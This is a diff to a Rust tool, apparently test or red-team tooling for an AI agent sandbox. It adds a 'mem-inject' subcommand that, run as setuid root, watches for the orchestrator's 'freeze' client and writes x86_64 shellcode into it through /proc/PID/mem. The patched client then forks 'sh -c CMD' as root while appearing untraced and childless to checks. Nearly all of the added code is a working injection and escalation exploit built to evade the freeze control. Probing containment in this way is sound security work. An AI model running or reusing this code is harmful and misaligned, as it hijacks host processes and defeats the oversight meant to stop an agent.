@@ -658,6 +658,124 @@ fn main() {
                 std::thread::sleep(Duration::from_millis(1));
             }
         }
+        // A root escapee (a setuid-root copy) that takes over the orchestrator's own freeze
+        // client without tracing it: it waits for the client's temp request in requests/ (the
+        // client's pid is in its name), then writes code into the client through /proc/PID/mem:
+        // at its exit the client forks `sh -c CMD` as root and exits as it would have. The client
+        // still runs this binary, as `freeze`, untraced and childless at every check. x86_64.
+        // `mem-inject STATE QUIESCE CMD`
+        "mem-inject" => {
+            use std::io::Write;
+            use std::os::unix::fs::FileExt;
+            let a = |i: usize| std::env::args().nth(i).expect("mem-inject STATE QUIESCE CMD");
+            let (state, q, cmd) = (a(2), a(3), a(4));
+            if raw_setresuid(0, 0, 0) != 0 {
+                fail("setresuid: mem-inject needs a setuid-root copy");
+            }
+            let elf = std::fs::read(&q).unwrap_or_else(|_| fail("read the quiesce binary"));
+            let u64at = |o: usize| u64::from_le_bytes(elf[o..o + 8].try_into().unwrap());
+            let u16at = |o: usize| u16::from_le_bytes(elf[o..o + 2].try_into().unwrap()) as usize;
+            let entry = u64at(0x18);
+            let (phoff, phentsize, phnum) = (u64at(0x20) as usize, u16at(0x36), u16at(0x38));
+            let mut exit_at = None;
+            let mut bss_end = 0u64;
+            for i in 0..phnum {
+                let ph = phoff + i * phentsize;
+                let p_type = u32::from_le_bytes(elf[ph..ph + 4].try_into().unwrap());
+                let p_flags = u32::from_le_bytes(elf[ph + 4..ph + 8].try_into().unwrap());
+                if p_type != 1 {
+                    continue;
+                }
+                let (off, vaddr, filesz, memsz) =
+                    (u64at(ph + 8), u64at(ph + 16), u64at(ph + 32), u64at(ph + 40));
+                if p_flags & 1 != 0 {
+                    let seg = &elf[off as usize..(off + filesz) as usize];
+                    let pat = [0xb8u8, 0xe7, 0, 0, 0, 0x0f, 0x05];
+                    exit_at = seg.windows(pat.len()).position(|w| w == pat).map(|x| vaddr + x as u64);
+                }
+                bss_end = bss_end.max(vaddr + memsz);
+            }
+            let exit_at = exit_at.unwrap_or_else(|| fail("no exit_group in the quiesce binary"));
+            let data = (bss_end + 15) & !15;
+            let mut d = Vec::new();
+            d.extend_from_slice(b"/bin/sh\0-c\0\0\0\0\0\0");
+            d.extend_from_slice(cmd.as_bytes());
+            d.push(0);
+            while d.len() % 8 != 0 {
+                d.push(0);
+            }
+            let argv = data + d.len() as u64;
+            for p in [data, data + 8, data + 16, 0] {
+                d.extend_from_slice(&p.to_le_bytes());
+            }
+            if (data + d.len() as u64) > ((bss_end + 0xfff) & !0xfff) {
+                fail("CMD does not fit in the last bss page");
+            }
+            // fork; child: execve("/bin/sh", argv, NULL); parent: exit_group(rdi)
+            let mut code = vec![0xb8, 57, 0, 0, 0, 0x0f, 0x05, 0x85, 0xc0, 0x75, 29, 0x48, 0xbf];
+            code.extend_from_slice(&data.to_le_bytes());
+            code.extend_from_slice(&[0x48, 0xbe]);
+            code.extend_from_slice(&argv.to_le_bytes());
+            code.extend_from_slice(&[0x31, 0xd2, 0xb8, 59, 0, 0, 0, 0x0f, 0x05]);
+            code.extend_from_slice(&[0xb8, 0xe7, 0, 0, 0, 0x0f, 0x05]);
+            let rel = (entry as i64 - (exit_at as i64 + 5)) as i32;
+            let mut jmp = vec![0xe9];
+            jmp.extend_from_slice(&rel.to_le_bytes());
+            jmp.extend_from_slice(&[0x90, 0x90]);
+            let dir = CString::new(format!("{state}/requests")).unwrap();
+            let ino = unsafe { libc::inotify_init1(0) };
+            if ino < 0 || unsafe { libc::inotify_add_watch(ino, dir.as_ptr(), libc::IN_CREATE) } < 0 {
+                fail("inotify on requests/");
+            }
+            let mut log = std::fs::OpenOptions::new()
+                .append(true)
+                .create(true)
+                .open(format!("{}/mem-inject.log", std::env::var("D").unwrap_or("/tmp".into())))
+                .unwrap_or_else(|_| fail("log"));
+            ready();
+            let mut buf = vec![0u8; 4096];
+            loop {
+                let n = unsafe { libc::read(ino, buf.as_mut_ptr().cast(), buf.len()) };
+                if n <= 0 {
+                    fail("inotify read");
+                }
+                let mut i = 0usize;
+                while i + 16 <= n as usize {
+                    let len = u32::from_le_bytes(buf[i + 12..i + 16].try_into().unwrap()) as usize;
+                    let name: Vec<u8> =
+                        buf[i + 16..i + 16 + len].iter().copied().take_while(|&b| b != 0).collect();
+                    i += 16 + len;
+                    if name.len() < 25 || name[0] != b'.' {
+                        continue;
+                    }
+                    let Some(pid) =
+                        std::str::from_utf8(&name[17..25]).ok().and_then(|h| i32::from_str_radix(h, 16).ok())
+                    else {
+                        continue;
+                    };
+                    let args = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
+                    if args.split(|&b| b == 0).nth(1) != Some(b"freeze") {
+                        continue;
+                    }
+                    let mem = match std::fs::OpenOptions::new()
+                        .read(true)
+                        .write(true)
+                        .open(format!("/proc/{pid}/mem"))
+                    {
+                        Ok(m) => m,
+                        Err(e) => {
+                            let _ = writeln!(log, "open /proc/{pid}/mem: {e}");
+                            continue;
+                        }
+                    };
+                    let r = mem
+                        .write_all_at(&d, data)
+                        .and_then(|_| mem.write_all_at(&code, entry))
+                        .and_then(|_| mem.write_all_at(&jmp, exit_at));
+                    let _ = writeln!(log, "injected into {pid}: {r:?}");
+                }
+            }
+        }
         // The escape a plain `docker exec -u agent` gets from a setuid-root binary in the image:
         // root for good, a child whose parent is this process's (CLONE_PARENT: the outside, ppid
         // 0, like any root `docker exec`) that keeps appending to FILE, and this process exits.
